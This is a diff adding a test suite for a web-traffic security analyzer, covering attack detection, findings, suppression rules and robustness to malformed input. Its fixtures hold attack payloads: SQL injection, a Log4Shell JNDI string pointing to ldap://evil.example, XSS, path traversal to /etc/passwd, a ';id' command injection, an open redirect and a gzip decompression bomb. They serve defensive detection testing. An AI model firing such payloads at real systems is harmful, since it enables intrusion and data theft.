@@ -1,0 +1,315 @@
+import { gzipSync } from 'node:zlib';
+import fc from 'fast-check';
+import { createAnalysisEngine, parseSuppressionRules, type AnalyzerEvent, type FindingRecord, type MatchEventRecord } from '../../../../runtime/analyzer/engine';
+import { buildExchange, type ExchangeSpec } from '../../../../runtime/analyzer/engine/exchange-builder';
+import type { HttpExchange__Output } from '../../../../runtime/proto';
+import { signScanMarker } from '../../../../runtime/scan-marker';
+
+const context = { sensorId: 'sensor-1', sensorTags: ['prod', 'eu'] };
+const START = Date.parse('2026-03-01T12:00:00Z');
+
+function clock(): { now: () => Date; advance: (ms: number) => void } {
+  let t = START;
+  return { now: () => new Date(t), advance: (ms) => (t += ms) };
+}
+
+const matchEvents = (events: AnalyzerEvent[]): MatchEventRecord[] => events.filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent');
+const findingsOf = (events: AnalyzerEvent[], cls?: string): FindingRecord[] => events.filter((e): e is FindingRecord => e.msg_type === 'Finding' && (cls === undefined || e.class === cls));
+
+function analyze(spec: ExchangeSpec, options: Parameters<typeof createAnalysisEngine>[0] = {}): AnalyzerEvent[] {
+  return createAnalysisEngine(options).analyze(buildExchange(spec), context);
+}
+
+describe('MatchEvent records', () => {
+  it('carry the seed 000 fields for a request that matched attack rules', () => {
+    const events = analyze({
+      id: 'sensor-1:boot-a:17',
+      target: "/api/items/5?id=1%27%20OR%20%271%27%3D%271&sort=asc",
+      requestHeaders: [['User-Agent', 'Mozilla/5.0 (X11)'], ['Host', 'shop.example.com:8443']],
+      host: 'shop.example.com:8443',
+      status: 500,
+      responseBody: '{"error":"x"}',
+      tls: true,
+      clientIp: '198.51.100.23',
+      startMs: START,
+    });
+    const [event] = matchEvents(events);
+    expect(event).toMatchObject({
+      msg_type: 'MatchEvent',
+      message: 'shop.example.com/api/items/5',
+      timestamp: '2026-03-01T12:00:00Z',
+      request_id: 'sensor-1:boot-a:17',
+      user_agent: 'Mozilla/5.0 (X11)',
+      ip: '198.51.100.23',
+      dst_host: 'shop.example.com',
+      uri: '/api/items/5',
+      args: 'id=1%27%20OR%20%271%27%3D%271&sort=asc',
+      status_code: 500,
+      ssl: true,
+      request_method: 'GET',
+      content_type: null,
+      content_length: 0,
+      response_length: 13,
+      upstream_response_time: 5,
+      postblock_event: false,
+      random_id: null,
+      tls_fingerprint: null,
+      cookie: null,
+      js_fingerprint: null,
+      sensor_id: 'sensor-1',
+      sensor_tags: ['prod', 'eu'],
+    });
+    expect(event.matches[0]).toMatchObject({ id: 100102, classification: 'SqlInjection', state: 'Exploitation', blocking: false, beta: false, location: 'query', parameter: 'id' });
+    expect(event.risk).toBe(Math.max(...event.matches.map((m) => m.risk)));
+    expect(new Date(event.created).toString()).not.toBe('Invalid Date');
+  });
+
+  it('are not produced for benign requests', () => {
+    expect(matchEvents(analyze({ target: '/api/search?q=union+station+parking&limit=10' }))).toEqual([]);
+  });
+
+  it('report Log4Shell in any header and scanners by user agent', () => {
+    const events = analyze({ target: '/', requestHeaders: [['X-Custom', '${${lower:j}ndi:ldap://evil.example/a}'], ['User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)']] });
+    const classes = matchEvents(events)[0].matches.map((m) => `${m.classification}:${m.parameter}`);
+    expect(classes).toEqual(expect.arrayContaining(['Log4Shell:X-Custom', 'ScannerDetection:User-Agent']));
+  });
+});
+
+describe('findings', () => {
+  it('SQL injection payload plus database error is a sql_injection finding worth confirming', () => {
+    const events = analyze({
+      target: "/api/users?id=1'%20OR%201=1--",
+      status: 500,
+      responseHeaders: [['Content-Type', 'text/html']],
+      responseBody: "<p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''1'' at line 1</p>",
+    });
+    const [finding] = findingsOf(events, 'sql_injection');
+    expect(finding).toMatchObject({ status: 'new', cwe: 'CWE-89', severity: 'high', method: 'GET', endpoint: '/api/users', parameter: 'id', parameter_location: 'query', host: 'api.example.com', occurrences: 1, sensor_tags: ['prod', 'eu'] });
+    expect(finding.scan).toMatchObject({ finding_id: finding.finding_id, finding_class: 'sql_injection', severity: 'SEVERITY_HIGH', endpoint: '/api/users', parameter: 'id', parameter_location: 'query', scheme: 'http', host: 'api.example.com', version: 1 });
+    expect(finding.scan?.exchange?.request?.target).toBe("/api/users?id=1'%20OR%201=1--");
+    expect(finding.evidence).toContain('MySQL');
+  });
+
+  it('a database error without an attack is disclosure, not injection', () => {
+    const events = analyze({ target: '/api/report', status: 500, responseHeaders: [['Content-Type', 'text/plain']], responseBody: 'org.postgresql.util.PSQLException: ERROR: syntax error at or near "FROM"' });
+    expect(findingsOf(events, 'sql_error_disclosure')).toHaveLength(1);
+    expect(findingsOf(events, 'sql_error_disclosure')[0].scan).toBeUndefined();
+  });
+
+  it('repeated observations update one finding at most once a minute', () => {
+    const c = clock();
+    const engine = createAnalysisEngine({ now: c.now });
+    const spec: ExchangeSpec = { target: '/page', responseHeaders: [['Content-Type', 'text/html']], responseBody: '<html><body>hi</body></html>' };
+    const first = findingsOf(engine.analyze(buildExchange(spec), context), 'missing_security_headers');
+    expect(first).toHaveLength(1);
+    expect(first[0].status).toBe('new');
+    for (let i = 0; i < 50; i++) {
+      c.advance(1000);
+      expect(findingsOf(engine.analyze(buildExchange(spec), context), 'missing_security_headers')).toEqual([]);
+    }
+    c.advance(10_000);
+    const [updated] = findingsOf(engine.analyze(buildExchange(spec), context), 'missing_security_headers');
+    expect(updated).toMatchObject({ status: 'updated', finding_id: first[0].finding_id, occurrences: 52, first_seen: first[0].first_seen });
+    expect(updated.scan?.version).toBe(2);
+    expect(engine.counters()).toMatchObject({ findings_created: 1, findings_updated: 1 });
+  });
+
+  it('finding ids are stable across engines and differ by parameter and class', () => {
+    const spec = (param: string): ExchangeSpec => ({ target: `/api/users?${param}=1'%20OR%201=1--`, status: 500, responseBody: 'Unclosed quotation mark after the character string', responseHeaders: [['Content-Type', 'text/plain']] });
+    const a = findingsOf(analyze(spec('id')), 'sql_injection')[0].finding_id;
+    const b = findingsOf(analyze(spec('id')), 'sql_injection')[0].finding_id;
+    const c = findingsOf(analyze(spec('name')), 'sql_injection')[0].finding_id;
+    expect(a).toBe(b);
+    expect(a).not.toBe(c);
+    expect(a).toMatch(/^[0-9a-f]{32}$/);
+  });
+
+  it('keeps at most maxFindings findings', () => {
+    const engine = createAnalysisEngine({ limits: { maxFindings: 3 } });
+    for (let i = 0; i < 6; i++) engine.analyze(buildExchange({ target: `/p${i}`, responseHeaders: [['Content-Type', 'text/html']], responseBody: '<html></html>' }), context);
+    expect(engine.counters().findings_created).toBe(6);
+    // The oldest was evicted: seeing it again makes a new finding; the most recent is still known.
+    expect(findingsOf(engine.analyze(buildExchange({ target: '/p0', responseHeaders: [['Content-Type', 'text/html']], responseBody: '<html></html>' }), context))[0].status).toBe('new');
+    expect(findingsOf(engine.analyze(buildExchange({ target: '/p5', responseHeaders: [['Content-Type', 'text/html']], responseBody: '<html></html>' }), context))).toEqual([]);
+  });
+
+  const html = (body: string, headers: Array<[string, string]> = []): Pick<ExchangeSpec, 'responseHeaders' | 'responseBody'> => ({
+    // Extra headers first: the engine reads the first value of a repeated header.
+    responseHeaders: [...headers, ['Content-Type', 'text/html; charset=utf-8'], ['Content-Security-Policy', "default-src 'self'"], ['X-Frame-Options', 'DENY'], ['X-Content-Type-Options', 'nosniff']],
+    responseBody: body,
+  });
+
+  it.each<[string, ExchangeSpec, string, Partial<FindingRecord>, string | undefined]>([
+    ['reflected XSS', { target: '/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', ...html('<p>Results for <img src=x onerror=alert(1)></p>') }, 'reflected_xss', { parameter: 'q', severity: 'high', cwe: 'CWE-79' }, 'reflected_xss'],
+    ['stack trace', { target: '/api/x', status: 500, responseHeaders: [['Content-Type', 'text/plain']], responseBody: 'Traceback (most recent call last):\n  File "/app/views.py", line 42, in get\nKeyError' }, 'stack_trace_disclosure', { cwe: 'CWE-209' }, undefined],
+    ['debug page', { target: '/x', status: 500, ...html("<p>You're seeing this error because you have <code>DEBUG = True</code> in your Django settings file.</p>") }, 'debug_mode_enabled', { cwe: 'CWE-215' }, undefined],
+    ['directory listing', { target: '/files/', ...html('<html><head><title>Index of /files</title></head><body><a href="a.zip">a.zip</a></body></html>') }, 'directory_listing', { cwe: 'CWE-548' }, undefined],
+    ['missing security headers', { target: '/home', responseHeaders: [['Content-Type', 'text/html']], responseBody: '<html></html>', tls: true }, 'missing_security_headers', { evidence: 'missing: Strict-Transport-Security, Content-Security-Policy, X-Frame-Options (or CSP frame-ancestors), X-Content-Type-Options' }, 'missing_security_headers'],
+    ['weak CSP', { target: '/home', ...html('<html></html>', [['Content-Security-Policy', "script-src 'self' 'unsafe-inline'"]]) }, 'weak_security_headers', {}, undefined],
+    ['insecure session cookie', { target: '/login', method: 'POST', tls: true, responseHeaders: [['Set-Cookie', 'sessionid=abc; Path=/'], ['Set-Cookie', 'theme=dark; Secure; Path=/']] }, 'insecure_cookie', { parameter: 'sessionid', cwe: 'CWE-614', severity: 'medium' }, undefined],
+    ['CORS reflection with credentials', { target: '/api/me', requestHeaders: [['Origin', 'https://evil.example.net']], responseHeaders: [['Access-Control-Allow-Origin', 'https://evil.example.net'], ['Access-Control-Allow-Credentials', 'true']] }, 'cors_misconfiguration', { severity: 'high', cwe: 'CWE-942' }, undefined],
+    ['version disclosure', { target: '/x', responseHeaders: [['Server', 'Apache/2.4.41 (Ubuntu)']] }, 'version_disclosure', { endpoint: '*', method: '*', parameter: 'Server', severity: 'info' }, undefined],
+    ['open redirect', { target: '/login?next=https%3A%2F%2Fevil.example.net%2Fphish', status: 302, responseHeaders: [['Location', 'https://evil.example.net/phish']] }, 'open_redirect', { parameter: 'next', cwe: 'CWE-601' }, 'open_redirect'],
+    ['path traversal proof', { target: '/download?file=..%2F..%2F..%2Fetc%2Fpasswd', responseHeaders: [['Content-Type', 'text/plain']], responseBody: 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon' }, 'path_traversal', { parameter: 'file', severity: 'critical' }, 'path_traversal'],
+    ['command output proof', { target: '/ping?host=127.0.0.1%3Bid', responseHeaders: [['Content-Type', 'text/plain']], responseBody: 'PING ok\nuid=33(www-data) gid=33(www-data) groups=33(www-data)' }, 'command_injection', { parameter: 'host', cwe: 'CWE-78' }, 'command_injection'],
+    ['template evaluated', { target: '/greet?name=%7B%7B7*7%7D%7D', ...html('<p>Hello 49</p>') }, 'template_injection', { parameter: 'name' }, 'template_injection'],
+    ['credential in URL', { target: '/api/data?api_key=abcd1234efgh' }, 'sensitive_data_in_url', { parameter: 'api_key', cwe: 'CWE-598' }, undefined],
+  ])('%s', (_name, spec, cls, expected, scanClass) => {
+    const [finding] = findingsOf(analyze(spec), cls);
+    expect(finding).toMatchObject(expected);
+    expect(finding.scan?.finding_class).toBe(scanClass);
+  });
+
+  it('sensitive data is reported with redacted evidence', () => {
+    const body = JSON.stringify({ card: '4111 1111 1111 1111', key: 'AKIAIOSFODNN7EXAMPLE', pem: '-----BEGIN RSA PRIVATE KEY-----\nMIIEow...', order: 1234567890123 });
+    const events = analyze({ target: '/api/orders/1', responseBody: body });
+    const found = findingsOf(events, 'sensitive_data');
+    expect(found.map((f) => f.parameter).sort()).toEqual(['aws_access_key_id', 'credit_card', 'private_key']);
+    for (const f of found) {
+      expect(f.evidence).not.toContain('4111 1111 1111 1111');
+      expect(f.evidence).not.toContain('4111111111111111');
+      expect(f.evidence).not.toContain('IOSFODNN7EXAMPLE');
+      expect(f.scan?.finding_class).toBe('sensitive_data');
+    }
+    expect(found.find((f) => f.parameter === 'credit_card')?.evidence).toBe('card number Visa ************1111 (Luhn valid)');
+    const doc = createAnalysisEngine();
+    doc.analyze(buildExchange({ target: '/api/orders/1', responseBody: body }), context);
+    const op = (doc.openApi().paths as Record<string, Record<string, Record<string, unknown>>>)['/api/orders/{id}'].get;
+    expect(op['x-txprevent-sensitive-data']).toEqual(['aws_access_key_id', 'credit_card', 'private_key']);
+  });
+
+  it('numbers that fail the Luhn check or have no card prefix are not cards', () => {
+    const events = analyze({ target: '/api/x', responseBody: JSON.stringify({ a: '4111 1111 1111 1112', ts: 1700000000000, id: '1234567890123456' }) });
+    expect(findingsOf(events, 'sensitive_data')).toEqual([]);
+  });
+});
+
+describe('scanner traffic', () => {
+  const key = Buffer.alloc(32, 7);
+  const attack: ExchangeSpec = { target: "/api/users?id=1'%20OR%201=1--", status: 500, responseBody: 'You have an error in your SQL syntax', responseHeaders: [['Content-Type', 'text/plain']] };
+
+  it('a valid, fresh marker yields nothing and is counted', () => {
+    const c = clock();
+    const engine = createAnalysisEngine({ scanMarkerKey: key, now: c.now });
+    const marker = signScanMarker('scan-1', key, c.now());
+    expect(engine.analyze(buildExchange({ ...attack, requestHeaders: [['X-TxPrevent-Scan', marker]] }), context)).toEqual([]);
+    expect(engine.counters()).toMatchObject({ exchanges: 1, skipped_scanner_traffic: 1, match_events: 0 });
+  });
+
+  it.each([
+    ['stale', (now: Date) => signScanMarker('scan-1', key, new Date(now.getTime() - 10 * 60_000))],
+    ['wrongly signed', (now: Date) => signScanMarker('scan-1', Buffer.alloc(32, 9), now)],
+    ['malformed', () => 'not-a-marker'],
+  ])('a %s marker is ordinary traffic', (_name, marker) => {
+    const c = clock();
+    const engine = createAnalysisEngine({ scanMarkerKey: key, now: c.now });
+    const events = engine.analyze(buildExchange({ ...attack, requestHeaders: [['x-txprevent-scan', marker(c.now())]] }), context);
+    expect(matchEvents(events)).toHaveLength(1);
+    expect(engine.counters().skipped_scanner_traffic).toBe(0);
+  });
+
+  it('rejects a short marker key at construction', () => {
+    expect(() => createAnalysisEngine({ scanMarkerKey: Buffer.alloc(4) })).toThrow(/scanMarkerKey must be a Buffer of at least 16 bytes/);
+  });
+});
+
+describe('suppression rules', () => {
+  it('parses valid rules and names the rule index and field in errors', () => {
+    expect(parseSuppressionRules([{ endpoint: '/api/*', method: 'get', findingClass: 'SqlInjection', reason: 'test env' }])).toEqual([{ endpoint: '/api/*', method: 'GET', findingClass: 'SqlInjection', reason: 'test env' }]);
+    expect(parseSuppressionRules(undefined)).toEqual([]);
+    expect(() => parseSuppressionRules({})).toThrow(/must be a JSON array/);
+    expect(() => parseSuppressionRules([{ endpoint: '/a', reason: 'x' }, { endpoint: '/b' }])).toThrow(/suppression rule 1: field "reason" is required/);
+    expect(() => parseSuppressionRules([{ endpoint: '/a', reason: 'x', severity: 'low' }])).toThrow(/suppression rule 0: field "severity" is unknown/);
+    expect(() => parseSuppressionRules([{ endpoint: 'api', reason: 'x' }])).toThrow(/suppression rule 0: field "endpoint" must start with "\/"/);
+    expect(() => parseSuppressionRules([{ method: 'GET POST', reason: 'x' }])).toThrow(/suppression rule 0: field "method"/);
+    expect(() => parseSuppressionRules([{ parameter: 7, reason: 'x' }])).toThrow(/suppression rule 0: field "parameter" must be a non-empty string/);
+    expect(() => parseSuppressionRules([{ reason: 'everything' }])).toThrow(/suppression rule 0: a rule needs at least one of/);
+    expect(() => parseSuppressionRules(['x'])).toThrow(/suppression rule 0: must be an object/);
+  });
+
+  it('suppresses matches and findings by endpoint template, parameter and class', () => {
+    const engine = createAnalysisEngine({
+      suppressions: [
+        { endpoint: '/api/items/{id}', parameter: 'q', findingClass: 'sql_injection', reason: 'accepted: read-only replica' },
+        { endpoint: '/static/*', findingClass: 'missing_security_headers', reason: 'static assets' },
+      ],
+    });
+    const sqli = (path: string, param: string): AnalyzerEvent[] => engine.analyze(buildExchange({ target: `${path}?${param}=1'%20OR%201=1--` }), context);
+    expect(matchEvents(sqli('/api/items/5', 'q'))).toEqual([]);
+    expect(matchEvents(sqli('/api/items/5', 'other'))).toHaveLength(1);
+    expect(matchEvents(sqli('/api/orders/5', 'q'))).toHaveLength(1);
+    const page = (path: string): AnalyzerEvent[] => engine.analyze(buildExchange({ target: path, responseHeaders: [['Content-Type', 'text/html']], responseBody: '<html></html>' }), context);
+    expect(findingsOf(page('/static/app/index.html'), 'missing_security_headers')).toEqual([]);
+    expect(findingsOf(page('/app/index.html'), 'missing_security_headers')).toHaveLength(1);
+    expect(engine.counters().suppressed).toBeGreaterThanOrEqual(2);
+  });
+
+  it('rejects invalid rules passed programmatically', () => {
+    expect(() => createAnalysisEngine({ suppressions: [{ reason: '' } as never] })).toThrow(/suppression rule 0: field "reason"/);
+  });
+});
+
+describe('hostile and malformed input', () => {
+  it('counts malformed exchanges and yields nothing', () => {
+    const engine = createAnalysisEngine();
+    const good = buildExchange({ target: '/x' });
+    const broken: unknown[] = [
+      { ...good, request: null },
+      { ...good, request: { ...good.request, method: 'G E T' } },
+      { ...good, request: { ...good.request, target: '' } },
+      { ...good, response: { ...good.response, status: 999 } },
+      { ...good, request: { ...good.request, headers: [{ name: 'a', value: 7 }] } },
+      { ...good, request: { ...good.request, headers: 'nope' } },
+      null,
+      'exchange',
+    ];
+    for (const b of broken) expect(engine.analyze(b as HttpExchange__Output, context)).toEqual([]);
+    expect(engine.counters()).toMatchObject({ exchanges: broken.length, malformed: broken.length - 1 });
+  });
+
+  it('never throws on arbitrary exchange-shaped garbage', () => {
+    const engine = createAnalysisEngine();
+    const header = fc.record({ name: fc.string(), value: fc.oneof(fc.string(), fc.constant(undefined as unknown as string)) });
+    const body = fc.option(fc.record({ data: fc.uint8Array({ maxLength: 200 }).map((a) => Buffer.from(a)), truncated: fc.boolean(), wire_length: fc.nat(), content_encoding: fc.constantFrom('', 'gzip', 'deflate', 'br', 'zstd'), decoded: fc.boolean(), missing_bytes: fc.nat() }));
+    const exchange = fc.record({
+      id: fc.string(),
+      client: fc.option(fc.record({ ip: fc.string(), port: fc.nat() })),
+      server: fc.option(fc.record({ ip: fc.string(), port: fc.nat() })),
+      tls: fc.boolean(),
+      request: fc.option(fc.record({ method: fc.string(), target: fc.string(), http_version: fc.string(), headers: fc.array(header, { maxLength: 5 }), body, trailers: fc.constant([]) })),
+      response: fc.option(fc.record({ status: fc.integer({ min: 0, max: 1000 }), reason: fc.string(), http_version: fc.string(), headers: fc.array(header, { maxLength: 5 }), body, trailers: fc.constant([]), interim_statuses: fc.constant([]) })),
+      timing: fc.option(fc.record({ request_start_us: fc.nat(), request_end_us: fc.nat(), response_start_us: fc.nat(), response_end_us: fc.nat() })),
+      tags: fc.array(fc.string(), { maxLength: 2 }),
+      connection_index: fc.nat(),
+      connection_id: fc.string(),
+    });
+    fc.assert(fc.property(exchange, (e) => Array.isArray(engine.analyze(e as unknown as HttpExchange__Output, context))), { numRuns: 300 });
+  });
+
+  it('rejects bad limits with the name of the limit', () => {
+    expect(() => createAnalysisEngine({ limits: { maxBodyBytes: -1 } })).toThrow(/engine limit maxBodyBytes must be a positive integer/);
+    expect(() => createAnalysisEngine({ limits: { maxBodies: 1 } as never })).toThrow(/engine limit "maxBodies" is unknown/);
+  });
+
+  it('looks at no more than maxBodyBytes of a body and maxHeaders headers', () => {
+    const engine = createAnalysisEngine({ limits: { maxBodyBytes: 1024, maxHeaders: 10 } });
+    const late = `author=ann&pad=${'a'.repeat(2000)}&text=%3Cscript%3Ealert(1)%3C%2Fscript%3E`;
+    expect(matchEvents(engine.analyze(buildExchange({ method: 'POST', target: '/c', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: late }), context))).toEqual([]);
+    const early = `text=%3Cscript%3Ealert(1)%3C%2Fscript%3E&pad=${'a'.repeat(2000)}`;
+    expect(matchEvents(engine.analyze(buildExchange({ method: 'POST', target: '/c', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: early }), context))).toHaveLength(1);
+    const headers: Array<[string, string]> = Array.from({ length: 20 }, (_, i) => [`X-H${i}`, 'v']);
+    headers.push(['X-Late', '${jndi:ldap://x/a}']);
+    expect(matchEvents(engine.analyze(buildExchange({ target: '/h', requestHeaders: headers }), context))).toEqual([]);
+  });
+
+  it('decodes gzip bodies up to maxDecodedBytes and survives a decompression bomb', () => {
+    const engine = createAnalysisEngine({ limits: { maxDecodedBytes: 64 * 1024 } });
+    const small = gzipSync(JSON.stringify({ comment: '<script>alert(1)</script>' }));
+    expect(matchEvents(engine.analyze(buildExchange({ method: 'POST', target: '/j', requestHeaders: [['Content-Type', 'application/json']], requestBody: small, requestContentEncoding: 'gzip' }), context))).toHaveLength(1);
+    const bomb = gzipSync(Buffer.concat([Buffer.alloc(20 * 1024 * 1024, 0x20), Buffer.from('<script>alert(1)</script>')]));
+    expect(bomb.length).toBeLessThan(100 * 1024);
+    const events = engine.analyze(buildExchange({ method: 'POST', target: '/j', requestHeaders: [['Content-Type', 'text/plain']], requestBody: bomb, requestContentEncoding: 'gzip' }), context);
+    expect(matchEvents(events)).toEqual([]);
+    expect(engine.counters().malformed).toBe(0);
+  });
+});
